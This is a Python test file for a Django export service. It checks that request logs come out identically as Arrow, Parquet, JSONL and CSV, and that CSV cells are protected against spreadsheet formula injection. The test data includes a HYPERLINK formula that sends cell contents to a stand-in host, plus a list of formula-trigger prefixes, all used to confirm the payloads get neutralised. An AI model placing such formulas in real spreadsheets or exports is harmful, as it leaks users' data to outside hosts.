"""An export holds every whole stage in four formats with the same values, and no cell becomes a formula."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from campaigns.models import RequestLog, Run, Stage, StageState
from campaigns.services.csv_cells import cell
from campaigns.services.errors import Conflict, InvalidInput
from campaigns.services.export import export_requests
from tests.campaigns.services.builders import make_run

FORMULA = '=HYPERLINK("http://x/?"&A1,"ok")'


def add_stage(run: Run, index: int, table: pa.Table, state: StageState = StageState.DONE) -> None:
    stage = Stage.objects.create(
        run=run,
        index=index,
        kind="ladder",
        concurrency=2 + index,
        warmup_s=1,
        measure_s=2,
        state=state,
        summary={},
        ended_at=timezone.now(),
    )
    outlet = io.BytesIO()
    with pa.ipc.new_file(outlet, table.schema, options=pa.ipc.IpcWriteOptions(compression="zstd")) as writer:
        writer.write_table(table)
    RequestLog.objects.create(stage=stage, rows=table.num_rows, arrow=outlet.getvalue())


def log(classes: list[str], errors: list[str | None], connect_ms: list[float | None], **more: Any) -> pa.Table:
    columns = {
        "request_id": pa.array(range(len(classes)), pa.int64()),
        "class": pa.array(classes).dictionary_encode(),
        "error": pa.array(errors, pa.string()),
        "connect_ms": pa.array(connect_ms, pa.float64()),
    }
    return pa.table(columns | more)


@pytest.fixture
def run(db: None) -> Run:
    run = make_run()
    add_stage(run, 0, log(["a", "b"], [None, FORMULA], [-12.5, None]))
    add_stage(run, 1, log(["c"], ['says "no", twice\r\nthen ends — ü'], [1e-7], itl_ns=pa.array([[5, 6]])))
    add_stage(run, 2, log(["partial"], [None], [0.0]), StageState.PARTIAL)
    return run


def body(run: Run, format: str) -> bytes:
    return b"".join(export_requests(run, format).chunks)


def test_arrow_parquet_and_json_lines_hold_the_same_rows(run: Run) -> None:
    rows = [json.loads(line) for line in body(run, "jsonl").splitlines()]
    assert [(row["stage"], row["kind"], row["concurrency"], row["class"]) for row in rows] == [
        (0, "ladder", 2, "a"),
        (0, "ladder", 2, "b"),
        (1, "ladder", 3, "c"),
    ]
    assert rows[0]["connect_ms"] == -12.5 and rows[1]["connect_ms"] is None
    assert rows[1]["error"] == FORMULA
    assert [row["itl_ns"] for row in rows] == [None, None, [5, 6]]
    with pa.ipc.open_file(body(run, "arrow")) as reader:
        assert reader.read_all().to_pylist() == rows
    assert pq.read_table(io.BytesIO(body(run, "parquet"))).to_pylist() == rows


def test_csv_keeps_numbers_and_tames_text(run: Run) -> None:
    text = body(run, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["connect_ms"] for row in rows] == ["-12.5", "", "1e-07"]
    assert rows[0]["error"] == ""
    assert rows[1]["error"] == "'" + FORMULA
    assert rows[2]["error"] == 'says "no", twice\r\nthen ends — ü'
    assert rows[2]["itl_ns"] == "[5,6]"
    assert "None" not in text and "nan" not in text


def test_an_export_names_its_file_and_type(run: Run) -> None:
    export = export_requests(run, "csv")
    assert export.filename == f"brimline-run-{run.pk}-requests.csv"
    assert export.content_type == "text/csv; charset=utf-8"


def test_an_unknown_format_names_those_there_are(run: Run) -> None:
    with pytest.raises(InvalidInput, match="arrow, parquet, csv, jsonl"):
        export_requests(run, "xlsx")


@pytest.mark.django_db
def test_a_run_without_a_whole_stage_has_nothing_to_export() -> None:
    run = make_run()
    add_stage(run, 0, log(["a"], [None], [0.0]), StageState.PARTIAL)
    with pytest.raises(Conflict, match="no stage is whole"):
        export_requests(run, "csv")


@pytest.mark.parametrize("text", ["+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "=1"])
def test_a_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert cell(text) == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers(number: float) -> None:
    assert cell(number) == number


def test_no_value_is_an_empty_cell() -> None:
    assert (cell(None), cell(float("nan")), cell(True)) == ("", "", "true")
